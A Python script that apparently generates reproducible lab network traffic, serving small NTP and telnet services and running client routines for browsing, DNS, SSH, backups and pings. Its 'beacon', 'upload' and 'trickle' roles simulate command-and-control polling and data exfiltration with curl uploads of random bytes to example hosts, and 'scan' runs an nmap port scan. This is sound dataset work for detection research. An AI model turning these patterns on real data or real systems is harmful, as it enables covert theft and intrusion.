"""What the hosts of a recording do: servers that no package offers in small, and clients with a daily routine.

Every routine is driven by a generator with a fixed seed, so two recordings follow the same plan; the packets come from
the real programs (curl, dig, ssh, nmap, ping) and differ.
"""
import argparse
import os
import random
import socket
import struct
import subprocess
import time

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
NTP_EPOCH = 2_208_988_800  # seconds from 1900 to 1970


def run(*command, limit_s=20, **options):
    """Runs a client program to its end; a failure is the recording's, and is told by the checks at the end."""
    try:
        subprocess.run(command, stdout=subprocess.DEVNULL, timeout=limit_s, check=False, **options)
    except subprocess.TimeoutExpired:
        print(f"{command[0]} took longer than {limit_s} s")


def curl(*arguments, agent=BROWSER):
    run("curl", "-q", "-sS", "--no-progress-meter", "--max-time", "15", "--cacert", os.environ["CA"], "-A", agent, "-o", "/dev/null",
        *arguments)


def ticks(args, rng):
    """Yields once per beat: every `period` seconds, each gap drawn from period * (1 ± jitter), until `seconds`."""
    start = time.monotonic()
    due = start + args.offset
    while due < start + args.seconds:
        time.sleep(max(0.0, due - time.monotonic()))
        yield
        due += args.period * (1 + rng.uniform(-args.jitter, args.jitter))
        # A beat that came late does not hurry the next: implants and daemons sleep after their work.
        due = max(due, time.monotonic() + 0.01)


def serve_ntp(args, _):
    """Answers NTP clients (RFC 5905, mode 4) on UDP port 123."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((args.to, 123))
        while True:
            request, client = sock.recvfrom(512)
            if len(request) >= 48:
                now = ntp_time()
                head = struct.pack("!BBbbII4s", 0x24, 2, request[2], -20, 0, 16, b"GPS\0")
                sock.sendto(head + now + request[40:48] + now + now, client)


def ntp_time():
    now = time.time() + NTP_EPOCH
    return struct.pack("!II", int(now), int(now % 1 * 2**32))


def ntp(args, rng):
    """Asks a time server from port 123, as ntpd does: the same 5-tuple each time."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("0.0.0.0", 123))
        sock.settimeout(0.5)
        for _ in ticks(args, rng):
            sock.sendto(struct.pack("!BBbb36x", 0x23, 0, 6, -20) + ntp_time(), (args.to, 123))
            try:
                sock.recv(512)
            except TimeoutError:
                print("no answer from the time server")


def serve_telnet(args, _):
    """A login prompt on TCP port 23: IAC negotiation, name, password, one command (RFC 854)."""
    with socket.create_server((args.to, 23)) as listener:
        while True:
            connection, _ = listener.accept()
            with connection:
                connection.settimeout(5)
                try:
                    connection.sendall(bytes([255, 251, 1, 255, 251, 3]) + b"\r\nswitch login: ")
                    for prompt in (b"Password: ", b"\r\nswitch> ", b"up 41 days\r\nswitch> "):
                        connection.recv(256)
                        connection.sendall(prompt)
                    connection.recv(256)
                except OSError as error:
                    print(f"telnet server: {error}")


def serve_sink(args, _):
    """Takes UDP datagrams and forgets them, so that their sender gets no ICMP errors."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((args.to, args.port))
        while True:
            sock.recv(65_536)


def telnet(args, rng):
    """Logs in at a telnet server, asks for the uptime, leaves."""
    for _ in ticks(args, rng):
        with socket.create_connection((args.to, 23), timeout=5) as connection:
            for line in (b"operator\r\n", b"not-a-secret\r\n", b"show uptime\r\n", b"exit\r\n"):
                connection.recv(256)
                time.sleep(rng.uniform(0.1, 0.2))
                connection.sendall(line)


def browse(args, rng):
    """Visits pages: a document, then some of its parts from one or two hosts over kept connections."""
    for _ in ticks(args, rng):
        ip = rng.choice(args.families.split(","))
        scheme = "http" if rng.random() < 0.2 else "https"
        curl(f"-{ip}", f"{scheme}://www.example.com/page{rng.randrange(8)}.html")
        parts = [f"https://cdn.example.net/part{rng.randrange(16)}.bin" for _ in range(rng.randrange(1, 4))]
        tls = ["--tls-max", "1.2"] if rng.random() < 0.2 else []
        curl(f"-{ip}", *tls, "--parallel", *sum((["-o", "/dev/null", part] for part in parts[1:]), []), parts[0])


def updates(args, rng):
    """Looks for updates at a steady pace, and fetches a package now and then."""
    for number, _ in enumerate(ticks(args, rng)):
        curl("http://updates.example.net/InRelease", agent="Debian APT-HTTP/1.3 (2.6.1)")
        if number % 2 == 0:
            curl("http://updates.example.net/package.deb", agent="Debian APT-HTTP/1.3 (2.6.1)")


def intranet(args, rng):
    """Reads a page of the inside server in clear text, with basic authentication."""
    for _ in ticks(args, rng):
        curl("-u", "operator:not-a-secret", f"http://{args.to}/status.html")


def dns(args, rng):
    """Asks the resolver for names that exist and for some that do not."""
    names = [("www.example.com", "A"), ("www.example.com", "AAAA"), ("cdn.example.net", "A"), ("example.com", "MX"),
             ("example.com", "TXT"), ("mail.example.com", "A"), ("nowhere.example.com", "A"),
             ("80.100.51.198.in-addr.arpa", "PTR")]
    for _ in ticks(args, rng):
        name, kind = rng.choice(names)
        run("dig", "+tries=1", "+time=2", *(["+tcp"] if rng.random() < 0.1 else []), f"@{args.to}", name, kind)


def ping(args, rng):
    """Sends five echo requests."""
    for _ in ticks(args, rng):
        run("ping", "-n", "-q", "-c", "5", "-i", "0.2", args.to)


def ssh(args, rng):
    """Logs in with a key and runs a command that prints for a while."""
    for _ in ticks(args, rng):
        loops = rng.randrange(3, 8)
        run("ssh", *SSH, f"root@{args.to}", f"for i in $(seq {loops}); do seq 200; sleep 0.3; done")


def backup(args, rng):
    """Copies a file to the inside server over SSH: a large upload that stays at home."""
    for _ in ticks(args, rng):
        run("scp", "-q", *SSH, os.environ["BACKUP_FILE"], f"root@{args.to}:{os.environ['BACKUP_FILE']}.copy")


def beacon(args, rng):
    """Command and control: a short HTTPS request per beat, and for one in 25 the result of a task instead."""
    for number, _ in enumerate(ticks(args, rng)):
        if number % 25 == 24:
            with open(os.environ["RESULT_FILE"], "wb") as result:
                result.write(rng.randbytes(rng.randrange(2_000, 6_000)))
            curl("-4", "-T", result.name, f"https://sync.example.org/in/result{number}", agent="Mozilla/5.0")
        else:
            curl("-4", f"https://sync.example.org/poll{rng.randrange(4)}", agent="Mozilla/5.0")


def upload(args, rng):
    """Exfiltration in chunks: one HTTPS upload of some tens of kilobytes per beat."""
    for number, _ in enumerate(ticks(args, rng)):
        with open(os.environ["CHUNK_FILE"], "wb") as chunk:
            chunk.write(rng.randbytes(rng.randrange(32_768, 65_536)))
        curl("-4", "-T", chunk.name, f"https://files.example.org/in/chunk{number}", agent="Mozilla/5.0")


def trickle(args, rng):
    """Exfiltration in one connection: a chunked HTTPS upload that sends some kilobytes per beat."""
    command = ["curl", "-q", "-sS", "-4", "--max-time", "120", "--cacert", os.environ["CA"], "-A", "Mozilla/5.0", "-o",
               "/dev/null", "--http1.1", "-T", "-", "https://files.example.org/in/archive"]
    with subprocess.Popen(command, stdin=subprocess.PIPE) as client:
        for _ in ticks(args, rng):
            client.stdin.write(rng.randbytes(rng.randrange(6_000, 12_000)))
            client.stdin.flush()


def scan(args, rng):
    """Half-open scan of 200 ports."""
    for _ in ticks(args, rng):
        run("nmap", "-sS", "-Pn", "-n", "--max-retries", "1", "--max-rate", "150", "-p", "1-200", args.to)


SSH = ["-F", "none", "-i", os.environ.get("SSH_KEY", ""), "-o", "StrictHostKeyChecking=no", "-o",
       "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "IdentitiesOnly=yes"]
ROLES = {role.__name__.replace("_", "-"): role for role in (
    serve_ntp, serve_telnet, serve_sink, ntp, telnet, browse, updates, intranet, dns, ping, ssh, backup, beacon, upload,
    trickle, scan)}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("role", choices=ROLES)
    parser.add_argument("--to", help="address to ask, or to serve on")
    parser.add_argument("--port", type=int, help="UDP port of serve-sink")
    parser.add_argument("--seconds", type=float, default=0.1, help="how long")
    parser.add_argument("--offset", type=float, default=0.0, help="first beat, in seconds")
    parser.add_argument("--period", type=float, default=1e9, help="mean time between beats, in seconds")
    parser.add_argument("--jitter", type=float, default=0.0, help="a share of the period, 0 to 1")
    parser.add_argument("--families", default="4", help="4, 6 or 4,6: by which IP to browse")
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    ROLES[args.role](args, random.Random(f"{args.role} {args.seed}"))


if __name__ == "__main__":
    main()
